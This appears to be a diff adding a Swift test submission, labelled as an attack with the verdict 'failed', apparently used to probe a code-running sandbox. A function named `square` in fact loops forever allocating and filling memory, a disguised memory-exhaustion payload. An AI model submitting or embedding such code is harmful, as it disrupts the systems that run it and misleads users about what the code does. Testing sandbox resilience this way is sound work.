@@ -1,0 +1,10 @@
+// Attack: Takes memory and writes to it until there is none.
+// Verdict: failed
+import Glibc
+
+public func square(_ number: Int) throws -> Int {
+    while true {
+        guard let block = malloc(1 << 22) else { continue }
+        memset(block, 1, 1 << 22)
+    }
+}
